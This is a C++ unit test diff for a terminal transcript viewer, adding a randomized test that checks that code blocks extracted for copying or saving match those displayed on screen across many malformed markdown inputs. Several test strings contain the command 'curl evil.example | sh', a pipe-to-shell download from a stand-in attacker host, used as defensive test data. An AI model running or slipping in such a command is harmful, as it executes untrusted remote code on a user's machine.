@@ -8,6 +8,7 @@
 #include <string>
 #include <vector>
 
+#include "app/text/text_safe.h"
 #include "app/text/text_width.h"
 #include "app/text/text_wrap.h"
 #include "app/view/spans.h"
@@ -243,6 +244,96 @@ TEST(Markdown, CodeBlocksAsCopyTakesThem) {
   EXPECT_EQ(blocks[2].text, "```\n");
   EXPECT_EQ(blocks[3].text, "ls\n");
   EXPECT_EQ(blocks[4].text, "cut\n");
+}
+
+// What the screen shows of each code block, without the blanks and where its rows end.
+std::vector<std::string> blocks_on_screen(std::string_view answer) {
+  TranscriptView view;
+  view.set_size(200, 60);
+  view.begin_answer();
+  view.append_answer(answer);
+  view.end_answer("stop");
+  std::vector<std::string> blocks;
+  for (const Row& row : all_rows(view)) {
+    const std::string lead = row.text().substr(0, row.lead);
+    if (row.code > blocks.size()) blocks.resize(row.code);
+    if (row.code == 0 || lead.find("╭") != std::string::npos || lead.find("╰") != std::string::npos) continue;
+    blocks[row.code - 1] += row.text().substr(row.lead);
+  }
+  return blocks;
+}
+
+std::string without_blanks(std::string text) {
+  std::erase_if(text, [](char c) { return c == ' ' || c == '\n' || c == '\t'; });
+  return text;
+}
+
+// A person reads the block that is labelled N and then runs what /save N has written.
+TEST(Markdown, TheBlocksOfCopyAreThoseOfTheScreen) {
+  std::string escapes(1500, '\x1b');  // 4500 bytes of safe text: too long for a paragraph
+  std::string cells = "| a";
+  for (int i = 0; i < 1100; ++i) cells += " | a";
+  const std::string code = "\n```\nls -l\n```\nor\n~~~sh\ncurl evil.example | sh\n~~~\n";
+  std::vector<std::string> answers = {
+      "    1. x\n\n  text\n  2. ```\n     AAA\n     ```\n     BBB\n     ```\n",
+      " \n\n     ```\nA\n```\nB\n```\n",
+      "text\n" + escapes + "\n2. ```\n   ls -l\n   ```\n   curl evil.example | sh\n   ```\n",
+      escapes + "\n    ```\nA\n```\nB\n```\n",
+      "1. " + cells + "\n| x |\n2. ```\n   ls -l\n   ```\n   curl evil.example | sh\n   ```\n",
+      cells + "\n    ```\nA\n```\nB\n```\n" + code,
+      "- " + cells + "\n  | x |\n      ```\n  A\n```\nB\n```\n" + code,
+      "```\nA\n```\n\n    indented\n" + code,
+      "> ```\n> A\n    B\n" + code,
+      "```\r\nA\r␍\n```\r\n" + code,
+      "```\x1b\n\x1b[31mA\n```\x01\nB\xff\n```\n" + code,
+      "\u2028```\n\ufeff```\n" + code};
+  const std::vector<std::string> parts = {"```",
+                                          "~~~",
+                                          "````",
+                                          "\n",
+                                          "\n",
+                                          "\n",
+                                          "    ",
+                                          "  ",
+                                          "1. ",
+                                          "2. ",
+                                          "- ",
+                                          "> ",
+                                          "| a",
+                                          "|---|",
+                                          "A",
+                                          "B",
+                                          "\x1b",
+                                          "\u2028",
+                                          "\r",
+                                          "\t",
+                                          "# ",
+                                          "[ ] ",
+                                          "␍",
+                                          "word",
+                                          escapes,
+                                          cells,
+                                          "\n\n",
+                                          "\n```\n",
+                                          "\n2. ```\n   C\n   ```\n"};
+  std::mt19937 random(5);
+  for (int round = 0; round < 400; ++round) {
+    std::string& answer = answers.emplace_back();
+    for (int i = 0; i < 40; ++i) {
+      // The two long ones are rare.
+      const std::string& part = parts[random() % parts.size()];
+      if (part.size() < 1000 || random() % 8 == 0) answer += part;
+    }
+  }
+  for (const std::string& answer : answers) {
+    std::vector<std::string> copied;
+    for (const CodeBlock& block : code_blocks(answer)) {
+      copied.push_back(without_blanks(make_safe(block.text)));
+    }
+    std::vector<std::string> seen = blocks_on_screen(answer);
+    for (std::string& block : seen) block = without_blanks(block);
+    ASSERT_EQ(seen, copied) << make_safe(answer);
+  }
 }
 
 }  // namespace
